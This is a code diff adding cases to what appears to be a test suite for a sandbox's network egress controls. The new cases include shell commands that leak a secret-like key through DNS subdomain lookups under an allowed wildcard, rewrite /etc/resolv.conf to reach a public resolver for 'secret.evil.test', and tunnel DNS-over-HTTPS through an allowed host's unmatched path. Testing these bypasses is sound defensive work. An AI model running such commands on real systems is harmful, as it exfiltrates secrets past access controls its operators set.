@@ -32,6 +32,21 @@ bypass({
   refusal: 'no-rule',
 })
 bypass({
+  never: 'a question below an allowed wildcard leaves, though nobody connects',
+  rows: [16, 28],
+  allow: ['*.cdn.test:443'],
+  script: 'for i in 1 2 3; do dig +time=2 +tries=1 AKIASECRETKEY-$i.cdn.test; done; getent ahosts AKIASECRETKEY-4.cdn.test',
+  through: askedFor('akiasecretkey'),
+  refusal: null,
+})
+bypass({
+  never: 'a step that writes another name server into /etc/resolv.conf asks it',
+  rows: [24, 28],
+  script: `echo nameserver ${ORIGINS.publicDns} > /etc/resolv.conf; getent ahosts secret.evil.test; dig +time=2 +tries=1 secret.evil.test`,
+  through: (arrival) => arrival.kind === 'dns' && String(arrival['over']).includes(ORIGINS.publicDns),
+  refusal: 'no-rule',
+})
+bypass({
   never: 'a record type that carries text brings a question out',
   rows: [28],
   allow: ['*.cdn.test:443'],
@@ -86,4 +101,12 @@ bypass({
   script: `curl -skS -m 3 https://${ORIGINS.publicDns}/dns-query?dns=AAAB`,
   through: (arrival) => arrival['address'] === ORIGINS.publicDns && arrival['port'] === 443,
   refusal: 'no-rule',
+})
+bypass({
+  never: 'DNS over HTTPS is spoken with an allowed host whose rule means other paths',
+  rows: [30],
+  rules: '  - { host: web.test, methods: [GET, POST], path: /acme/** }',
+  script: `curl -skS -m 3 -H 'Content-Type: application/dns-message' -d AAAB https://web.test/dns-query; curl -skS -m 3 https://web.test/dns-query?dns=AAAB`,
+  through: (arrival) => String(arrival['uri']).startsWith('/dns-query'),
+  refusal: 'path',
 })
